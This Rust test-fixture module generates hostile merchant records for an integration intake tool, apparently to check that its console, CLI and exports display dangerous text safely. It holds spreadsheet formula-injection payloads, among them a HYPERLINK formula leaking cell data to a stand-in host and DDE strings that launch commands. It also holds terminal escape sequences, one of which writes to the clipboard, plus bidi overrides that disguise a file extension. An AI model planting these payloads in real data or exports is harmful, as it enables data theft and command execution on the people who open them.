//! Records whose text attacks what shows it: merchant names, terminalIds and
//! CRNs with terminal escapes, bells and backspaces, C1 controls, bidi
//! overrides, zero-width characters and spreadsheet formulas, as a merchant
//! may type them. Served by `intake sim --hostile` (and the tests), so the
//! console, the CLI and every export can be seen to show them as marks.

use chrono::{DateTime, TimeDelta, Utc};

use crate::api::{IntegrationRequest, IntegrationType, Merchant, Status};

/// Names a merchant could type.
pub const NAMES: [&str; 10] = [
    "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"Open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3 Traders",
    "\tTabbed Ltd",
    "Clear\u{1b}[2J\u{1b}]52;c;aGk=\u{7}me\u{8}\u{9b}31m Ltd",
    "Cafe \u{202E}gnp.exe\u{202C} Ltd",
    "Zero\u{200B}width\u{FEFF}\u{2066} Ltd",
    "東京タワー Sushi 🍣 and a name long enough to need cutting in every column it is shown in",
    "Bidi \u{2067}isolate\u{2069} and \u{200F}marks\u{200E} Ltd",
];

/// The terminalIds the hostile ePay requests hold (the form refuses each).
const TERMINAL_IDS: [&str; 3] = ["11\u{1b}[31m00", "ABC123", "1100\u{200B}0021"];

/// One merchant per name and one pending request for each, ids plain so
/// every route still serves them; some ePay requests hold hostile
/// terminalIds and one was made by a CRN with an override in it.
pub fn records(account_id: &str, base: DateTime<Utc>) -> (Vec<Merchant>, Vec<IntegrationRequest>) {
    let mut merchants = Vec::new();
    let mut requests = Vec::new();
    for (i, name) in NAMES.iter().enumerate() {
        let merchant = Merchant {
            id: format!("hostile{i:02}merchant"),
            account_id: Some(account_id.to_string()),
            name: name.to_string(),
            country: Some("NZ".into()),
            test: false,
        };
        let at = base - TimeDelta::hours(i as i64 + 1);
        let (kind, terminal_id) = match TERMINAL_IDS.get(i) {
            Some(t) => (IntegrationType::Epay, Some(t.to_string())),
            None => (IntegrationType::Windcave, None),
        };
        requests.push(IntegrationRequest {
            id: format!("HOSTILE{i:02}request"),
            account_id: account_id.to_string(),
            merchant_id: merchant.id.clone(),
            kind,
            status: Status::Pending,
            terminal_id,
            created_at: Some(at),
            updated_at: Some(at),
            created_by: Some(format!("crn:{account_id}:api-key:ops\u{202E}evil")),
            updated_by: Some("crn::user:\u{1b}[2Jx".into()),
            terminal: None,
            product: None,
            as_sent: Default::default(),
        });
        merchants.push(merchant);
    }
    (merchants, requests)
}
